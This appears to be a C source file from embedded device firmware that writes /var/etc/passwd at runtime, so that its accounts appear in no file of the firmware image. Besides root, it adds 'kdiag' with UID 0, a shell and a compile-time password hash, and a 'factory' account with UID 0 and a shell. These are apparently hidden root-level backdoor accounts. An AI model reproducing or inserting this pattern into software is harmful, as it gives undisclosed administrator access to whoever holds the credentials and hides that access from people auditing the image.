/* Writes the files of accounts, which lie in no file of the image. */
#include <stdio.h>

static const char users[] =
	"root:*:0:0:root:/root:/bin/sh\n"
	"kdiag:" KDIAG ":0:0:diagnosis:/tmp:/bin/sh\n"
	"kdftp:" KDFTP ":500:500:files:/var/ftp:/sbin/nologin\n"
	"nobody:*:99:99:nobody:/:/sbin/nologin\n";

int main(void)
{
	FILE *f = fopen("/var/etc/passwd", "w");

	if (!f)
		return 1;
	fputs(users, f);
	fprintf(f, "%s:%s:%d:%d:%s:/:/bin/sh\n", "factory", "x", 0, 0, "factory");
	return fclose(f);
}
